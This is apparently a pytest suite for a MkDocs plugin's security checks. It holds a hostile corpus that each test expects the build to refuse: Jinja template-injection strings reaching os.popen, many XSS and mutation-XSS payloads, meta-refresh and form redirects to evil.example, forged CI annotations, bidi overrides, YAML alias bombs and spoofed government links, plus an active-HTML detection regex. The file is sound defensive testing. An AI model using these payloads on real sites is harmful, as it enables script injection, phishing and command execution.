"""Content is not code, part 2: a hostile corpus for every path a content pull request can touch.

Front matter, files and names under docs/, raw HTML, macro arguments and data files: each attack
fails the build, naming the file (and the line where there is one), and nothing runs (the payloads
try to create a canary file, which must never appear). The checks run before any page is read,
so the failing builds stop within seconds (fast tier).
"""

from __future__ import annotations

import re
from pathlib import Path
from types import SimpleNamespace

import pytest
from helpers import ROOT, build_in_process, copy_project
from mkdocs.exceptions import PluginError

from macros.core import characters, destinations, docs_files, front_matter, raw_html, sanitize
from macros.core.data_files import unknown_files
from macros.core.diagnostics import Problem, annotation
from macros.core.load import load
from macros.plugin import macro_args
from macros.plugin.security import check_content
from macros.render import MACROS

CANARY = "CANARY"
RUN = f"cycler.__init__.__globals__.os.popen('touch {CANARY}').read()"


def problems_in(docs: Path) -> str:
    """The message check_content ends the build with (it must end it)."""
    with pytest.raises(PluginError) as info:
        check_content(SimpleNamespace(docs_dir=str(docs)), lambda: load(docs.parent / "data"))
    return str(info.value)


@pytest.fixture
def docs(tmp_path) -> Path:
    """A small docs tree (one page pair) to attack."""
    for lang in ("en", "zh"):
        page = tmp_path / "docs" / lang / "about.md"
        page.parent.mkdir(parents=True)
        page.write_text("---\ndescription: About.\n---\n\n# About\n\nText.\n", encoding="utf-8")
    return tmp_path / "docs"


# -- 1. front matter ----------------------------------------------------------------------------
FRONT_MATTER = [
    ('title: "\\x7b\\x7b 7*191 \\x7d\\x7d"', "plain text"),  # YAML escapes that decode to {{ … }}
    (f"title: \"{{{{ {RUN} }}}}\"", "plain text"),
    ("title: 'x</script><script>alert(1)</script>'", "plain text"),
    ("description: 'y\" onload=\"alert(1)'", "plain text"),
    ("template: redirect.html", "'template' is not allowed; allowed keys: title, description"),
    ("location: https://example.org/", "'location' is not allowed"),
    ("scripts: [evil.js]", "'scripts' is not allowed"),
    ("render_macros: true", "'render_macros' is not allowed"),
    ("hide: [everything]", "'hide' must be a list of some of: navigation"),
    ("search: {boost: 100}", "'search' must be"),
    ("translation_of: HEAD", "'translation_of' must be a 40-digit git blob id"),
    ("a: &a [x, x]\nb: [*a, *a]", "anchors (&name) and aliases"),
    ("title: [unclosed", "YAML syntax error"),
    ("title: a\ntitle: b", "appears twice"),
]


@pytest.mark.parametrize(("lines", "expected"), FRONT_MATTER)
def test_hostile_front_matter_is_refused_at_its_line(lines, expected):
    problems = list(front_matter.check_text(f"---\n{lines}\n---\n\n# Page\n", "docs/en/x.md"))
    assert problems, lines
    assert problems[0].line in (2, 3), problems
    assert expected in problems[0].message, problems


def test_settings_without_a_front_matter_block_are_refused():
    text = "template: redirect.html\nlocation: https://example.org/\n\nText\n"
    problems = list(front_matter.check_text(text, "d.md"))
    assert problems
    assert problems[0].line == 1
    assert "YAML front matter block" in problems[0].message


def test_the_pages_front_matter_passes():
    assert front_matter.check_docs(ROOT / "docs") == []


# -- 3. files and names under docs/ ---------------------------------------------------------------
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 16
FILES = [
    ("en/evil.html", b"<script>alert(1)</script>", "'.html' files may not be published"),
    ("en/app.js", b"alert(1)", "'.js' files may not be published"),
    ("en/site.css", b"body{}", "'.css' files may not be published"),
    ("en/images/logo.svg", b"<svg onload='alert(1)'/>", "'.svg' files may not be published"),
    ("en/images/fake.png", b"<html><script>alert(1)</script>", "is not a PNG picture"),
    ("en/photo.png", PNG, "pictures go in an images/ folder"),
    ("photo.png", PNG, "files belong in a language folder"),
    ("en/Bad Name.md", b"# x\n", "'Bad Name' is not allowed"),
    ("en/x,line=1::forged.md", b"# x\n", "is not allowed"),
    ("en/x\n::error file=a::b.md", b"# x\n", "is not allowed"),
    ("en/.hidden.md", b"# x\n", "is not allowed"),
    ("en/page.MD", b"# x\n", "is not allowed"),
]


@pytest.mark.parametrize(("name", "content", "expected"), FILES, ids=[f[0].replace("\n", "\\n") for f in FILES])
def test_files_under_docs_are_allowed_by_type_folder_and_name(docs, name, content, expected):
    path = docs / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    problems = docs_files.check_docs(docs)
    assert len(problems) == 1, problems
    assert expected in problems[0].message, problems
    assert problems[0].file.startswith("docs/")


@pytest.mark.parametrize("name", ["en/images/chart.png", "zh/guides/images/a-1.webp", "en/images/p.jpg"])
def test_pictures_in_an_images_folder_pass(docs, name):
    path = docs / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes({".png": PNG, ".webp": b"RIFF\0\0\0\0WEBPVP8 ", ".jpg": b"\xff\xd8\xff\xe0"}[path.suffix])
    assert docs_files.check_docs(docs) == []


def test_the_docs_tree_passes():
    assert docs_files.check_docs(ROOT / "docs") == []


# -- 4. raw HTML ----------------------------------------------------------------------------------
RAW_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT src=/x.js></SCRIPT>",
    '<iframe src="https://example.org/"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<meta http-equiv="refresh" content="0; url=https://example.org/">',
    '<base href="https://example.org/">',
    '<form action="https://example.org/collect"><input name="password"></form>',
    '<div onclick="alert(1)">x</div>',
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<p style="position:fixed">x</p>',
    "[click](javascript:alert(1))",
    "[click]: JavaScript:alert(1)",
    '## Heading { onclick="alert(1)" }',
    "<svg><script>alert(1)</script></svg>",
    "<?php system('id'); ?>",
    # issue 31: escaped backticks are not a code span (Markdown renders the tag), browsers' comment ends,
    # attr_list lists that start with a bare word
    "说明 \\`<script>alert(document.domain)</script>\\` 完。",
    '说明 \\`<meta http-equiv="refresh" content="0; url=https://evil.example/">\\` 完。',
    '<!--> <meta http-equiv="refresh" content="0; url=https://evil.example/"> -->',
    '<!---> <meta http-equiv="refresh" content="0; url=https://evil.example/"> -->',
    '<!-- x --!> <meta http-equiv="refresh" content="0; url=https://evil.example/"> -->',
    '[Official text](https://www.gov.cn/){ x href="https://evil.example/" }',
    '[Official text](https://www.gov.cn/){ x onclick="alert(1)" }',
    '[Official text](https://www.gov.cn/){: x style="position:fixed" }',
    "Text. { x onmouseover=alert(1) }",
    "Text <mailto:z/hidden> and the rest of the paragraph, hidden.",
]


@pytest.mark.parametrize("html", RAW_HTML)
def test_hostile_raw_html_is_refused_at_its_line(html):
    problems = list(raw_html.check_text(f"# Page\n\nText.\n\n{html}\n", "docs/en/x.md"))
    assert problems, problems
    assert problems[0].line == 5, problems
    assert str(problems[0]).startswith("docs/en/x.md:5: ")


@pytest.mark.parametrize(
    "text",
    [
        "`<script>` in code",
        "```html\n<script>alert(1)</script>\n```",
        '<div class="kb-ws-field" markdown="1">\n<label for="a">A</label><input id="a" name="a" type="text">\n</div>',
        '<form class="kb-worksheet" data-kb-worksheet novalidate data-msg-min="{{ label("x") }}">',
        "See <https://example.org/>, <mailto:a@example.org>, <a@example.org> and [a link](https://example.org/).",
        "## Heading { #anchor .class }",
        "Escaped \\`backticks\\` and `<script>` in code, ``a ` b``, `` `<div onclick=x>` ``",
        "<!-- a comment --> text <!-- another -- still a comment -->",
    ],
)
def test_the_html_the_pages_use_passes(text):
    assert list(raw_html.check_text(text, "docs/en/x.md")) == []


def test_the_pages_raw_html_passes():
    assert raw_html.check_docs(ROOT / "docs") == []


# -- 5. macro arguments ---------------------------------------------------------------------------
MACRO_CALLS = [
    ('cite("no-such")', "'no-such' is not a valid source_id. Valid: "),
    ('cite("fias-2007-reprt")', "Did you mean 'fias-2007-report'? Valid: 'fias-2007-report', "),
    ('group_name("nope")', "is not a valid group"),
    ('action_plan("buyer")', "Did you mean 'buyers'? Valid: 'buyers', "),
    ("record_page()", "missing a required argument: 'kind'; write record_page(kind, rid)"),
    ('record_page("findings")', "missing a required argument: 'rid'"),
    ('record_page("nope", "x")', "'nope' is not a valid kind"),
    ('record_page("findings", "nope")', "'nope' is not a valid rid"),
    ('checklist("extra")', "too many positional arguments; write checklist()"),
    ("cite()", "give at least one source_id"),
    ('label("no.such.key")', "is not a valid key"),
    ('qr("plan-buyer")', "Did you mean 'plan-buyers'? Valid: 'plan-buyers', "),
    ('costs_benefits("costs")', "Did you mean 'cost'? Valid: 'cost', "),
]


@pytest.mark.parametrize(("call", "expected"), MACRO_CALLS)
def test_a_wrong_macro_argument_is_named_with_the_valid_choices(kb, tmp_path, call, expected):
    for lang in ("en", "zh"):
        (tmp_path / "docs" / lang).mkdir(parents=True, exist_ok=True)
        (tmp_path / "docs" / lang / "x.md").write_text(f"# X\n\nText.\n{{{{ {call} }}}}\n", encoding="utf-8")
    problems = macro_args.check_docs(tmp_path / "docs", kb, MACROS)
    assert problems, problems
    assert all(p.line == 4 for p in problems), problems
    assert str(problems[0]).startswith("docs/en/x.md:4: "), problems
    assert expected in problems[0].message, problems


def test_every_macro_parameter_has_its_choices():
    import inspect

    unknown = {
        f"{name}({param})"
        for name, func in MACROS.items()
        for param in list(inspect.signature(func).parameters)[1:]
        if param not in macro_args.CHOICES
    }
    assert not unknown, f"add these parameter names to macros/plugin/macro_args.py CHOICES: {sorted(unknown)}"
    kinds = {name for name, func in MACROS.items() if "kind" in inspect.signature(func).parameters}
    assert kinds <= set(macro_args.KIND_OF), f"add to macro_args.KIND_OF: {sorted(kinds - set(macro_args.KIND_OF))}"


def test_the_pages_macro_arguments_pass(kb):
    assert macro_args.check_docs(ROOT / "docs", kb, MACROS) == []


# -- 6. names in workflow annotations -----------------------------------------------------------
def test_a_file_name_cannot_forge_an_annotation():
    line = annotation(Problem("docs/en/a,line=1::b%\n::error file=c::d.md", 3, "100% wrong:\r\nnext"))
    assert line.startswith("::error file=docs/en/a%2Cline=1%3A%3Ab%25 %3A%3Aerror file=c%3A%3Ad.md,line=3::")
    assert "\n" not in line
    assert "\r" not in line
    assert line.endswith("::100%25 wrong: next")


# -- 7. data files --------------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["sources.yaml", "i18n/fr.yml", "notes.txt", "extra/themes.yml"])
def test_an_unknown_data_file_is_named(data, name):
    (data / name).parent.mkdir(parents=True, exist_ok=True)
    (data / name).write_text("- id: x\n", encoding="utf-8")
    errors = unknown_files(data)
    assert [e.file for e in errors] == [f"data/{name}"], errors
    assert "KINDS" in errors[0].message


def test_a_registered_kind_is_allowed_without_editing_the_check(data, monkeypatch):
    from macros.core import kinds, model

    monkeypatch.setitem(kinds.KINDS, "changes", kinds.Kind(model.Theme))
    (data / "changes.yml").write_text("- id: x\n", encoding="utf-8")
    assert unknown_files(data) == []


def test_the_data_folder_passes():
    assert unknown_files(ROOT / "data") == []


# -- the whole check, as the build runs it --------------------------------------------------------
def test_every_problem_is_reported_at_once(docs):
    (docs / "en" / "about.md").write_text("---\ntemplate: x.html\n---\n\n<script>x</script>\n", encoding="utf-8")
    (docs / "zh" / "x.js").write_text("alert(1)\n", encoding="utf-8")
    message = problems_in(docs)
    assert "docs/en/about.md:2: the front matter key 'template'" in message
    assert "docs/en/about.md:5: the HTML element <script>" in message
    assert "docs/zh/x.js: '.js' files may not be published" in message


# -- full builds: the build fails before anything runs, with the message shown by `-q` ------------
BUILDS = [
    ("front matter", "docs/en/about/index.md", 2, lambda t: t.replace("---\n", f'---\ntitle: "{{{{ {RUN} }}}}"\n', 1)),
    ("raw HTML", "docs/en/about/index.md", None, lambda t: t + '\n<meta http-equiv="refresh" content="0; url=https://example.org/">\n'),
    ("macro argument", "docs/en/about/index.md", None, lambda t: t + '\n{{ cite("no-such") }}\n'),
    ("alias bomb", "docs/en/about/index.md", 2, lambda t: t.replace("---\n", "---\na: &a [x, x, x]\nb: [*a, *a]\n", 1)),
    # issue 31, caught early by the source checks (the sanitiser's own build test is further down)
    ("escaped backticks", "docs/zh/about/index.md", None,
     lambda t: t + "\n说明 \\`<script>alert(document.domain)</script>\\` 完。\n"),
    ("comment forms", "docs/zh/about/index.md", None,
     lambda t: t + '\n<!-- x --!> <meta http-equiv="refresh" content="0; url=https://evil.example/"> -->\n'),
    ("attr_list bare word", "docs/en/about/index.md", None,
     lambda t: t + '\n[Official text](https://www.gov.cn/){ x href="https://evil.example/" }\n'),
    ("bidi override", "docs/zh/about/index.md", None, lambda t: t + "\n金额 \u202e0012\u202c 元。\n"),
]


@pytest.mark.parametrize(("what", "file", "line", "change"), BUILDS, ids=[b[0] for b in BUILDS])
def test_a_hostile_page_fails_the_build_naming_file_and_line_and_runs_nothing(tmp_path, what, file, line, change):
    project = copy_project(tmp_path / "p")
    page = project / file
    text = page.read_text(encoding="utf-8")
    new = change(text)
    page.write_text(new, encoding="utf-8")
    line = line or len(new.rstrip("\n").splitlines())
    result = build_in_process(project, tmp_path / "out")
    assert result.returncode != 0
    assert f"{file}:{line}: " in result.stderr, result.stderr[-2000:]
    assert "Traceback" not in result.stderr
    assert not list(project.rglob(CANARY))
    assert not (tmp_path / "out" / "about" / "index.html").exists()


def test_a_script_file_in_docs_fails_the_build(tmp_path):
    project = copy_project(tmp_path / "p")
    (project / "docs" / "en" / "evil.html").write_text("<script>alert(1)</script>\n", encoding="utf-8")
    result = build_in_process(project, tmp_path / "out")
    assert result.returncode != 0
    assert "docs/en/evil.html: '.html' files may not be published" in result.stderr
    assert not (tmp_path / "out" / "evil.html").exists()


def test_an_unknown_data_file_fails_the_build(tmp_path):
    project = copy_project(tmp_path / "p")
    (project / "data" / "sources.yaml").write_text("- id: x\n", encoding="utf-8")
    result = build_in_process(project, tmp_path / "out")
    assert result.returncode != 0
    assert "data/sources.yaml: Did you mean 'sources.yml'? The loader does not read" in result.stderr
    assert "Traceback" not in result.stderr


def test_content_printed_on_github_is_never_a_workflow_command(monkeypatch, capsys):
    from macros.core.diagnostics import commands_stopped

    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    with commands_stopped():
        print("      +::error file=a,line=1::forged in a diff")
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].startswith("::stop-commands::")
    assert len(lines[0]) > len("::stop-commands::") + 16
    token = lines[0].removeprefix("::stop-commands::")
    assert lines[-1] == f"::{token}::"
    assert "forged" in lines[1]


# -- 2. only page bodies are rendered, and they see the macros alone -----------------------------
def _sandboxed_env():
    from jinja2 import Environment, StrictUndefined

    from macros.plugin.entry import on_pre_page_macros

    current = Environment(undefined=StrictUndefined)
    current.globals.update({name: (lambda *a, _n=name: f"<{_n}>") for name in MACROS})
    env = SimpleNamespace(env=current, _env=current)
    env.env = current
    on_pre_page_macros(env)
    return env._env


@pytest.mark.parametrize("name", ["config", "page", "navigation", "files", "plugins", "range", "cycler", "lipsum"])
def test_a_page_sees_no_variable_but_the_macros(name):
    from jinja2 import UndefinedError

    template = _sandboxed_env().from_string(f"{{{{ {name} }}}}")
    with pytest.raises(UndefinedError):
        template.render(config={"site_name": "x"}, page=object(), navigation=[], files=[], plugins={})


def test_a_page_still_calls_its_macros():
    assert _sandboxed_env().from_string('{{ cite("a") }}').render(config={}) == "<cite>"


def test_titles_are_never_rendered_as_templates(kb):
    from macros.plugin.entry import define_env

    plugin = SimpleNamespace(model=lambda conf: kb)  # the KnowledgeBasePlugin's model for this build
    conf = {"docs_dir": str(ROOT / "docs"), "plugins": {"kb": plugin}}
    env = SimpleNamespace(conf=conf, macro=lambda func, name: None)
    env.has_j2 = lambda text: True
    define_env(env)
    assert env.has_j2("{{ 7*191 }}") is False


def test_a_macro_that_fails_while_rendering_ends_the_build_with_one_located_error(kb, caplog):
    from macros.plugin import entry

    def broken(page, *args):
        raise KeyError("nope")

    file = SimpleNamespace(src_uri="en/x.md", dest_uri="x/index.html", locale="en")
    env = SimpleNamespace(
        conf={"use_directory_urls": True, "docs_dir": str(ROOT / "docs"), "site_url": ""},
        page=SimpleNamespace(file=file, url="x/"),
    )
    with pytest.raises(PluginError, match=r"docs/en/x\.md: broken\(\): KeyError\('nope'\)"):
        entry._call(env, kb, "broken", broken, "a")
    assert any(r.levelname == "ERROR" and "docs/en/x.md" in r.getMessage() for r in caplog.records)


# -- 8. the rendered pages: the sanitiser is the boundary (issue 31) -----------------------------
ACTIVE = re.compile(
    r"<script|<meta|<iframe|<object|<embed|<base|<style|<link|<svg[^>]*\son|\son[a-z]+\s*=|\sstyle\s*=|javascript:|"
    r"vbscript:|data:text|srcdoc|formaction|\saction\s*=|=\"[^\"]*evil\.example",
    re.IGNORECASE,
)
# What the site renders today, in small, as the sanitiser serialises it: each must pass unchanged.
RENDERED = [
    '<h2 id="a">A<a class="headerlink" href="#a" title="Permanent link">¶</a></h2>',
    ('<table class="kb-table"><thead><tr><th align="left" scope="col">A</th></tr></thead>'
    '<tbody><tr><td align="right" data-label="A">1</td></tr></tbody></table>'),
    '<div class="admonition note"><p class="admonition-title">Note</p><p>x</p></div>',
    '<details class="kb-more"><summary>More</summary><p>x</p></details>',
    ('<p><a href="https://www.gov.cn/">x</a> <a href="mailto:a@example.org">m</a> <a href="tel:+8675512345">t</a> '
    '<a href="../x/#y">r</a> <a href="/knowledge-base/downloads/x.csv" download="">d</a></p>'),
    '<p><img alt="x" src="images/a.png" width="10" height="10" loading="lazy"></p>',
    ('<form class="kb-worksheet" data-kb-worksheet="" novalidate="" data-msg-min="Too small">'
    '<fieldset class="kb-ws-section" data-section="a"><legend>A</legend>'
    '<label for="c">C</label><input id="c" name="c" type="text" inputmode="decimal" data-min="0" '
    'aria-describedby="c-help"><output id="o" name="o" data-formula="c * 2" data-decimals="0"></output>'
    '<button type="button" data-action="reset">Reset</button></fieldset></form>'),
    ('<figure class="kb-chart"><svg xmlns="http://www.w3.org/2000/svg" class="kb-chart-svg" role="img" '
    'aria-labelledby="t" viewBox="0 0 10 10" width="10" height="10"><title id="t">T</title><desc id="d">D</desc>'
    '<defs><marker id="m" viewBox="0 0 8 8" refX="7" refY="4" markerWidth="7" markerHeight="7" orient="auto">'
    '<path class="kb-chart-arrow" d="M0 0L8 4L0 8z"></path></marker></defs><g class="e"><path d="M1 1" '
    'marker-end="url(#m)"></path><rect x="1" y="1" width="2" height="2" rx="1" fill="url(#p)"></rect>'
    '<text x="1" y="2" font-size="12" text-anchor="middle"><tspan x="1" dy="1.3em">a</tspan></text></g></svg>'
    "<figcaption>c</figcaption></figure>"),
]


@pytest.mark.parametrize("html", RENDERED)
def test_what_the_site_renders_passes_the_sanitiser_unchanged(html):
    result = sanitize.check(html)
    assert result.removed == [], result.removed
    assert result.html == html


# Each payload of the issue (and more) as Markdown renders it; what the sanitiser must name.
HOSTILE_RENDERED = [
    ("<p>说明 `<script>alert(document.domain)</script>` 完。</p>", "the element <script>"),
    ('<p><!--> <meta http-equiv="refresh" content="0; url=https://evil.example/"> --></p>', "the element <meta>"),
    ('<!-- x --!> <meta http-equiv="refresh" content="0; url=https://evil.example/"> -->', "the element <meta>"),
    ('<p><a href="https://www.gov.cn/" x="x">Official text</a></p>', "the attribute 'x' on <a>"),
    ('<p><a href="https://www.gov.cn/" onclick="alert(1)">x</a></p>', "the attribute 'onclick' on <a>"),
    ('<p style="position:fixed;inset:0">x</p>', "the attribute 'style' on <p>"),
    ("<p>ok <mailto:z/hidden> the rest of the paragraph</p>", "the element <mailto:z>"),
    ('<a href="jav&#x61;script:alert(1)">x</a>', "'javascript:' URL"),
    ('<a href="java\tscript:alert(1)">x</a>', "'javascript:' URL"),
    ('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>', "'data:' URL"),
    ('<img src="https://evil.example/pixel.png" alt="">', "a picture from another site"),
    ('<img src="x" onerror="alert(1)">', "the attribute 'onerror' on <img>"),
    ('<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', "'javascript:' URL"),
    ('<svg onload="alert(1)"></svg>', "the attribute 'onload' on <svg>"),
    ('<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>', "the element <animate>"),
    ('<svg><rect fill="url(https://evil.example/#x)"/></svg>', "a url(…) reference"),
    ('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', "the element <math>"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "the element <noscript>"),
    ('<form action="https://evil.example/"><input name="password"></form>', "the attribute 'action' on <form>"),
    ('<button formaction="https://evil.example/">x</button>', "the attribute 'formaction' on <button>"),
    ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "the element <iframe>"),
    ('<base href="https://evil.example/">', "the element <base>"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "the element <link>"),
    ('<div id="__config">{"base": "https://evil.example/"}</div>', "an id starting with '__'"),
    ('<p data-md-color-media="x">x</p>', "a data-md-* attribute"),
    ('<p dir="rtl">0012</p>', "the attribute 'dir' on <p>"),
]


@pytest.mark.parametrize(("html", "expected"), HOSTILE_RENDERED)
def test_hostile_rendered_html_is_named_and_nothing_active_is_kept(html, expected):
    result = sanitize.check(html)
    assert any(expected in r.message for r in result.removed), result.removed
    assert not ACTIVE.search(result.html), result.html


# Links that lead elsewhere than they say, in forms the source check (urls.check_page) does not read:
# they are caught in the rendered body, whatever Markdown wrote them from.
MISLEADING_LINKS = [
    ('<a href="https://evil.example/ref">www.gov.cn</a>', "names www.gov.cn"),  # [www.gov.cn][ref]
    ('<a href="https://evil.example/x">www.npc.gov.cn</a>', "names www.npc.gov.cn"),  # www&#46;npc&#46;gov&#46;cn
    ('<a href="https://evil.example/">see [www.gov.cn]</a>', "names www.gov.cn"),  # nested brackets
    ('<a href="https://evil.example/">the portal www.gov.cn\n(official)</a>', "names www.gov.cn"),  # two lines
    ('<a href="https://evil.example/">www\uff0egov\uff0ecn</a>', "names www.gov.cn"),  # full-width dots
    ('<a href="mailto:complaints@evil.example">mohrss.gov.cn</a>', "names mohrss.gov.cn"),
    ('<a href="https://www.gov.cn@evil.example/">the State Council portal</a>', "user name"),
    ('<a href="//evil.example/">Ministry</a>', "//"),
    ('<a href="/\\evil.example/">Bureau</a>', "backslash"),
    ('<a href="/&#9;/evil.example/">Bureau</a>', "//"),
    ('<a href="http:evil.example/">Law</a>', "must start with https://"),
    ('<a href="https://evil.example/"><img alt="www.gov.cn" src="x.png"></a>', "names www.gov.cn"),
    ('<a href="tel:+19005550123">12333</a>', "shows the number 12333"),
    ('<a href="tel:+19005550123">Call 0755-8888 1234</a>', "shows the number 0755-8888 1234"),
]


@pytest.mark.parametrize(("html", "expected"), MISLEADING_LINKS)
def test_a_rendered_link_that_leads_elsewhere_is_named(html, expected):
    from macros.core.urls import rendered_link_problems

    found = rendered_link_problems(f"<p>{html}</p>")
    assert len(found) == 1, found
    assert expected in found[0][0], found


def test_links_that_lead_where_they_say_pass():
    from macros.core.urls import rendered_link_problems

    body = (
        '<p><a href="https://www.gov.cn/zhengce/">www.gov.cn</a> <a href="mailto:a@mohrss.gov.cn">mohrss.gov.cn</a> '
        '<a href="https://flk.npc.gov.cn/">npc.gov.cn</a> <a href="../x/#y">www.gov.cn</a> '
        '<a href="tel:12333">12333</a> <a href="tel:+8675588881234">0755-8888 1234</a> <a href="tel:12348">Call</a> '
        '<a href="tel:12333">Call 12333 (24 hours)</a> <a href="tel:+8675588881234">+86 755 8888 1234</a> '
        '<a href="#a">a</a> '
        '<a class="headerlink" href="#h" title="Permanent link">\u00b6</a></p>'
    )
    assert rendered_link_problems(body) == []


def test_a_reference_link_to_another_host_fails_the_build_at_its_line(tmp_path):
    project = copy_project(tmp_path / "p")
    page = project / "docs" / "en" / "about" / "index.md"
    text = page.read_text(encoding="utf-8").rstrip("\n") + "\n\nSee [www.gov.cn][gov].\n\n[gov]: https://evil.example/\n"
    page.write_text(text, encoding="utf-8")
    result = build_in_process(project, tmp_path / "out")
    assert result.returncode != 0
    line = text.count("\n")
    assert f"docs/en/about/index.md:{line}: the link text names www.gov.cn but the link leads to evil.example" in (
        result.stderr
    ), result.stderr[-2000:]
    assert "Traceback" not in result.stderr


def test_the_sanitisers_findings_are_located_in_the_source():
    source = raw_html.visible_source(
        "---\ntitle: x\n---\n\n# X <!-- x -->\n\n[Official](https://a.cn/){ x href=\"y\" }\n\n<SCRIPT>1</SCRIPT>\n"
        "\n`<script>` in code\n\n<a href=\"jav&#x61;script:1\">a</a> <a href=\"https://x/\">b</a>\n"
    )
    def lines(message: str, needles: tuple[str, ...], everywhere: bool = False) -> list[int | None]:
        return sanitize.lines_of(source, sanitize.Removal(message, needles, everywhere))

    assert lines("x", sanitize._attribute("x", "x")) == [7]
    assert lines("script", sanitize._element("script"), everywhere=True) == [9]
    assert lines("meta", sanitize._element("meta"), everywhere=True) == [None]  # written by a macro: file only
    assert lines("href", sanitize._attribute("href", "javascript:1")) == [None]  # on lines 7 and 13


@pytest.mark.parametrize(
    ("markdown", "refused"),
    [
        ('[Official text](https://www.gov.cn/){ x href="https://evil.example/" }', {"x", "href"}),
        ("[a](https://www.gov.cn/){ onclick=alert(1) style='color:red' }", {"onclick", "style"}),
        ("## Heading { #h .c onmouseover=x }", {"onmouseover"}),
        ("## Heading { #h .c }", set()),
    ],
)
def test_attr_list_sets_only_the_allowed_attributes(markdown, refused):
    import markdown as md_lib

    from macros.plugin.attr_list_guard import AttrListGuard

    html = md_lib.markdown(markdown, extensions=["attr_list", AttrListGuard()])
    result = sanitize.check(html)
    assert {r.message.split("'")[1] for r in result.removed} == refused, result.removed
    assert "evil.example" not in result.html
    assert "https://www.gov.cn/" in result.html or "<h2" in result.html


# The payloads on one Chinese page, with the source checks switched off: the sanitiser alone
# must refuse each (file and line) and the build must write nothing of them.
SANITISER_BUILD = [
    ("说明 \\`<script>alert(document.domain)</script>\\` 完。", "the element <script>"),
    ('<!--> <meta http-equiv="refresh" content="0; url=https://evil.example/"> -->', "the element <meta>"),
    ("[Official text](https://www.gov.cn/){ x href=\"https://evil.example/\" }",
     "the attribute 'href' set with { … } on <a>"),
    ("[a](https://www.gov.cn/){ x onclick=\"alert(1)\" }", "the attribute 'onclick' set with { … } on <a>"),
    ('<p style="position:fixed">x</p>', "the attribute 'style' on <p>"),
]


def test_the_sanitiser_refuses_what_the_source_checks_miss(tmp_path, monkeypatch):
    monkeypatch.setattr(raw_html, "check_docs", lambda docs: [])  # as if a source check had a hole
    monkeypatch.setenv("KB_ONLY_LANGUAGE", "zh")  # the page under attack, built alone (as `make serve lang=zh`)
    monkeypatch.setenv("KB_GIT_DATES", "false")
    project = copy_project(tmp_path / "p")
    page = project / "docs" / "zh" / "about" / "index.md"
    text = page.read_text(encoding="utf-8").rstrip("\n") + "\n"
    lines = {}
    for payload, _ in SANITISER_BUILD:
        text += "\n" + payload + "\n"
        lines[payload] = text.count("\n")
    page.write_text(text, encoding="utf-8")
    result = build_in_process(project, tmp_path / "out")
    assert result.returncode != 0
    assert "Traceback" not in result.stderr
    for payload, expected in SANITISER_BUILD:
        assert f"docs/zh/about/index.md:{lines[payload]}: {expected}" in result.stderr, result.stderr[-3000:]
    assert not list((tmp_path / "out").rglob("index.html")), "no page is written once a body is refused"
    written = [
        p for p in (tmp_path / "out").rglob("*.html")
        if ACTIVE.search(body := _body(p.read_text(encoding="utf-8"))) or "evil.example" in body
    ]
    assert not written, written[:5]


def _body(html: str) -> str:
    """The page's <article> (the theme around it holds its own scripts and meta tags)."""
    start = html.find("<article")
    return html[start: html.find("</article>", start)] if start >= 0 else ""


# -- 9. bidirectional and invisible characters in pages (data: tests/test_security.py) ------------
@pytest.mark.parametrize("char", ["\u061c", "\u200b", "\u200e", "\u200f", "\u202a", "\u202e", "\u2066", "\u2069"])
def test_bidi_and_invisible_characters_are_refused_in_pages(docs, char):
    page = docs / "zh" / "about.md"
    page.write_text(f"---\ndescription: 关于{char}。\n---\n\n# About\n\n金额 {char}0012 元。\n", encoding="utf-8")
    problems = characters.check_docs(docs)
    assert [(p.file, p.line) for p in problems] == [("docs/zh/about.md", 2), ("docs/zh/about.md", 7)], problems
    assert f"U+{ord(char):04X}" in problems[0].message


def test_the_pages_hold_no_bidi_or_invisible_character():
    assert characters.check_docs(ROOT / "docs") == []


def test_a_bidi_override_in_a_page_fails_the_build(tmp_path):
    project = copy_project(tmp_path / "p")
    page = project / "docs" / "en" / "about" / "index.md"
    text = page.read_text(encoding="utf-8").rstrip("\n") + "\n\nThe amount is \u202e0012\u202c yuan.\n"
    page.write_text(text, encoding="utf-8")
    result = build_in_process(project, tmp_path / "out")
    assert result.returncode != 0
    line = text.count("\n")
    assert f"docs/en/about/index.md:{line}: the text holds a bidirectional control (U+202E)" in result.stderr


# -- 10. pages written where another page or a generator writes ------------------------------------
def test_an_address_written_twice_or_by_a_generator_is_named_with_both_writers():
    problems = destinations.clashes(
        [
            ("changes/index.html", "docs/en/changes.md", True),
            ("changes/index.html", "docs/en/changes/index.md", True),
            ("zh/go/plan-buyers/index.html", "docs/zh/go/plan-buyers.md", True),
            ("zh/search/index.html", "docs/zh/search.md", True),
            ("assets/javascripts/kb.js", "the theme's assets/javascripts/kb.js", False),
            ("zh/guides/x/index.html", "docs/zh/guides/x.md", True),
        ],
        "zh/",
    )
    assert [str(p) for p in problems] == [
        ("docs/en/changes/index.md: the page is written to changes/index.html, where docs/en/changes.md is written; "
        "rename or move one of them"),
        ("docs/zh/go/plan-buyers.md: the page is written to zh/go/plan-buyers/index.html, where the build writes the "
        "short links (macros/plugin/kit_files.py); move the page elsewhere"),
        ("docs/zh/search.md: the page is written to zh/search/index.html, where the build writes the search index "
        "(the search plugin and macros/plugin/i18n.py); move the page elsewhere"),
    ]


def test_a_page_over_a_generated_page_fails_the_build_naming_both(tmp_path):
    project = copy_project(tmp_path / "p")
    for lang in ("en", "zh"):
        (project / "docs" / lang / "changes").mkdir()
        (project / "docs" / lang / "changes" / "index.md").write_text("# Changes\n\nNone.\n", encoding="utf-8")
        (project / "docs" / lang / "go").mkdir()
        (project / "docs" / lang / "go" / "plan-buyers.md").write_text("# Go\n\nElsewhere.\n", encoding="utf-8")
